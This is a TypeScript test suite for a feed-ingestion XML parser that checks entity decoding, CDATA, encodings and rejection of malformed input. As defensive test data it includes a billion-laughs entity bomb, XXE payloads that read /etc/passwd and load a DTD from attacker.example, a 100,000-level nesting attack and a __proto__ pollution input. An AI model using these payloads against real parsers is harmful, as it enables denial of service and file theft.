import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { DocumentError } from '../src/ingest/connector';
import { decodeXmlBody, decodeXmlEntities, parseXml, xmlContent } from '../src/ingest/xml';

/** Asserts that parsing throws a DocumentError whose message matches. */
function refuses(xml: string, message: RegExp): void {
  assert.throws(() => parseXml(xml), (error: unknown) => {
    assert.ok(error instanceof DocumentError, `expected a DocumentError, got ${String(error)}`);
    assert.match(error.message, message);
    return true;
  });
}

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>`;

describe('parseXml', () => {
  it('decodes the predefined entities and numeric references, in text and attributes', () => {
    assert.deepEqual(parseXml('<a title="&quot;R&amp;D&quot; &#233;">Fish &amp; chips &lt;3 &apos;&gt; &#233;t&#xE9; &#x263A;</a>'), {
      a: { '#text': 'Fish & chips <3 \'> été ☺', '@_title': '"R&D" é' },
    });
  });

  it('leaves other named references as written, for the HTML or text reader after it', () => {
    assert.deepEqual(parseXml('<a>Mosul&rsquo;s &nbsp;schools</a>'), { a: 'Mosul&rsquo;s &nbsp;schools' });
  });

  it('turns references to characters XML forbids into U+FFFD', () => {
    assert.deepEqual(parseXml('<a>x&#0;y&#x1;z&#xD800;</a>'), { a: 'x\ufffdy\ufffdz\ufffd' });
  });

  it('keeps namespace prefixes, attributes, xml:lang and CDATA as written', () => {
    const xml = `<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:dc="http://purl.org/dc/elements/1.1/">
      <item rdf:about="https://coalition.example/1" xml:lang="fr">
        <dc:creator>Bureau de presse</dc:creator>
        <content:encoded><![CDATA[<p>Écoles &amp; <b>rouvertes</b></p>]]></content:encoded>
        <link href="https://coalition.example/1"/>
      </item>
    </rdf:RDF>`;
    assert.deepEqual(parseXml(xml), {
      'rdf:RDF': {
        '@_xmlns:rdf': 'http://www.w3.org/1999/02/22-rdf-syntax-ns#',
        '@_xmlns:dc': 'http://purl.org/dc/elements/1.1/',
        item: {
          '@_rdf:about': 'https://coalition.example/1',
          '@_xml:lang': 'fr',
          'dc:creator': 'Bureau de presse',
          'content:encoded': '<p>Écoles &amp; <b>rouvertes</b></p>',
          link: { '@_href': 'https://coalition.example/1' },
        },
      },
    });
  });

  it('keeps values as strings and makes the elements named arrays', () => {
    assert.deepEqual(parseXml('<c><guid>00123</guid><item>1e3</item></c>', ['item']), { c: { guid: '00123', item: ['1e3'] } });
  });

  it('reads a bare & as &amp; (the one error forgiven), but not in CDATA', () => {
    assert.deepEqual(parseXml('<a href="https://x.example/?a=1&b=2"><b>AT&T</b><c><![CDATA[a && b &amp;]]></c></a>'), {
      a: { b: 'AT&T', c: 'a && b &amp;', '@_href': 'https://x.example/?a=1&b=2' },
    });
  });

  it('allows a DOCTYPE without an internal subset, and ignores it', () => {
    assert.deepEqual(parseXml('<?xml version="1.0"?>\n<!DOCTYPE rss>\n<rss version="2.0"/>'), { rss: { '@_version': '2.0' } });
    assert.deepEqual(
      parseXml('<?xml version="1.0"?><!-- old --><!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd"><rss version="0.91"/>'),
      { rss: { '@_version': '0.91' } },
    );
  });

  it('refuses a billion-laughs document at once', () => {
    refuses(BILLION_LAUGHS, /DOCTYPE declares entities/);
  });

  it('refuses external entities, parameter entities and any internal subset', () => {
    refuses('<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>', /DOCTYPE declares entities/);
    refuses('<!DOCTYPE foo [<!ENTITY % dtd SYSTEM "http://attacker.example/evil.dtd"> %dtd;]><foo/>', /DOCTYPE declares entities/);
    refuses('<!DOCTYPE foo [<!ENTITY greeting "hello">]><foo>&greeting;</foo>', /DOCTYPE declares entities/);
    refuses('<!DOCTYPE foo [<!ATTLIST foo bar CDATA "baz">]><foo/>', /DOCTYPE has an internal subset/);
  });

  it('refuses entities declared by a DOCTYPE after the prolog', () => {
    refuses('<foo><!DOCTYPE bar [<!ENTITY greeting "hello">]>&greeting;</foo>', /entity declarations are refused/);
  });

  it('refuses a truncated document, naming where it ends', () => {
    refuses('<rss version="2.0"><channel><title>Press</title><item><title>Mosul', /ends inside <rss> > <channel> > <item> > <title>/);
    refuses('<rss version="2.0"><channel><item><title>Raqqa</title></item>', /ends inside <rss> > <channel>/);
  });

  it('refuses what is not XML: HTML pages, JSON, text, nothing, two roots', () => {
    refuses('<!doctype html><html><head><title>502 Bad Gateway</title></head><body><p>Try later<br></body></html>', /HTML doctype/);
    refuses('<html><body><p>Try later<br></p></body></html>', /Not well-formed XML/);
    refuses('{"version":"https://jsonfeed.org/version/1.1","items":[]}', /Not well-formed XML/);
    refuses('Service unavailable', /Not well-formed XML/);
    refuses(' \n', /empty/);
    refuses('<?xml version="1.0"?><!-- nothing -->', /Start tag expected/);
    refuses('<a/><b/>', /more than one root element/);
    refuses('<a><b></a></b>', /Expected closing tag 'b'/);
  });

  it('refuses nesting deep enough to exhaust a recursive reader', () => {
    refuses(`${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}`, /nested/i);
  });

  it('refuses element names that would pollute prototypes', () => {
    refuses('<__proto__><polluted>yes</polluted></__proto__>', /prototype/);
    assert.equal(({} as Record<string, unknown>).polluted, undefined);
  });

  it('keeps raw elements as written, for xmlContent to read', () => {
    const xml = '<feed><content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>Hello <em>big</em> world &amp; more</p></div></content><title>A &amp;lt;b&amp;gt; <![CDATA[<i>x</i>]]></title></feed>';
    const feed = parseXml(xml, [], { rawElements: ['..content', '..title'] }).feed as Record<string, any>;
    assert.deepEqual(feed.content, { '#text': '<div xmlns="http://www.w3.org/1999/xhtml"><p>Hello <em>big</em> world &amp; more</p></div>', '@_type': 'xhtml' });
    assert.deepEqual(xmlContent(feed.content['#text']), { kind: 'markup', html: '<div xmlns="http://www.w3.org/1999/xhtml"><p>Hello <em>big</em> world &amp; more</p></div>' });
    assert.deepEqual(xmlContent(feed.title), { kind: 'text', text: 'A &lt;b&gt; <i>x</i>' });
  });
});

describe('xmlContent', () => {
  it('reads character data as text, CDATA literally, comments dropped', () => {
    assert.deepEqual(xmlContent(' &lt;p&gt;One&lt;/p&gt; <!-- note --><![CDATA[<p>Two & three</p>]]> '), { kind: 'text', text: '<p>One</p> <p>Two & three</p>' });
  });

  it('reads child elements as markup, CDATA escaped', () => {
    assert.deepEqual(xmlContent('<p>One <![CDATA[a<b]]></p>'), { kind: 'markup', html: '<p>One a&lt;b</p>' });
  });
});

describe('decodeXmlEntities', () => {
  it('decodes the predefined five and character references only', () => {
    assert.equal(decodeXmlEntities('&amp;&lt;&gt;&quot;&apos;&#65;&#x42;&rsquo;&amp'), '&<>"\'AB&rsquo;&amp');
  });
});

describe('decodeXmlBody', () => {
  it('reads UTF-8 by default and drops a byte-order mark', () => {
    assert.equal(decodeXmlBody(Buffer.from('\ufeff<a>é</a>', 'utf8')), '<a>é</a>');
  });

  it('follows the XML declaration and UTF-16 byte-order marks', () => {
    assert.equal(decodeXmlBody(Buffer.from('<?xml version="1.0" encoding="ISO-8859-1"?><a>\u00e9t\u00e9</a>', 'latin1')), '<?xml version="1.0" encoding="ISO-8859-1"?><a>été</a>');
    assert.equal(decodeXmlBody(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<a>سلام</a>', 'utf16le')])), '<a>سلام</a>');
  });

  it('refuses an encoding it does not know', () => {
    assert.throws(() => decodeXmlBody(Buffer.from('<?xml version="1.0" encoding="x-klingon"?><a/>')), DocumentError);
  });

  it('follows the XML declaration over the HTTP charset (a server labels what it does not know), the charset without one, and a byte-order mark over both', () => {
    // A UTF-8 feed that a server labels with its default charset: read as its declaration says, not as mojibake.
    const declared = Buffer.from('<?xml version="1.0" encoding="UTF-8"?><a>\u00e9t\u00e9</a>', 'utf8');
    assert.equal(decodeXmlBody(declared, 'ISO-8859-1'), '<?xml version="1.0" encoding="UTF-8"?><a>été</a>');
    assert.equal(decodeXmlBody(Buffer.from('<a>\u00e9t\u00e9</a>', 'latin1'), 'ISO-8859-1'), '<a>été</a>');
    assert.equal(decodeXmlBody(Buffer.from('\ufeff<a>é</a>', 'utf8'), 'iso-8859-1'), '<a>é</a>');
  });

  it('refuses bytes that are not valid in the encoding it reads, rather than replacing them', () => {
    assert.throws(() => decodeXmlBody(Buffer.from([0x3c, 0x61, 0x3e, 0xe9, 0x3c, 0x2f, 0x61, 0x3e])), {
      name: 'DocumentError',
      message: 'The document is not valid text in UTF-8 (nothing names another encoding): it is in another encoding, or not text at all',
    });
    assert.throws(() => decodeXmlBody(Buffer.from('<a>\u00e9</a>', 'latin1'), 'utf-8'), DocumentError);
    assert.throws(() => decodeXmlBody(Buffer.from('<?xml version="1.0" encoding="Shift_JIS"?><a>\u0082</a>', 'latin1')), DocumentError);
  });
});
